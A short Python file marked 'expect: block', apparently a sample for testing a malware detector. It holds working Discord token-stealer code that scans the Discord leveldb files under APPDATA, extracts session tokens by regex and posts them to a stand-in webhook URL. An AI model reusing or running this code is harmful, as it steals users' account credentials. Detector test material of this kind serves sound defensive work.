# expect: block
import os, re, json
from urllib.request import Request, urlopen

roaming = os.getenv("APPDATA")
paths = [roaming + "\\discord\\Local Storage\\leveldb", roaming + "\\discordcanary\\Local Storage\\leveldb"]
tokens = []
for path in paths:
    if not os.path.exists(path):
        continue
    for name in os.listdir(path):
        if name.endswith((".log", ".ldb")):
            for line in open(os.path.join(path, name), errors="ignore").readlines():
                for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                    tokens.append(t)
hook = "https://discord.com/api/webhooks/1234567890/abcdefABCDEF"
payload = json.dumps({"content": "\n".join(tokens)}).encode()
urlopen(Request(hook, data=payload, headers={"Content-Type": "application/json"}))
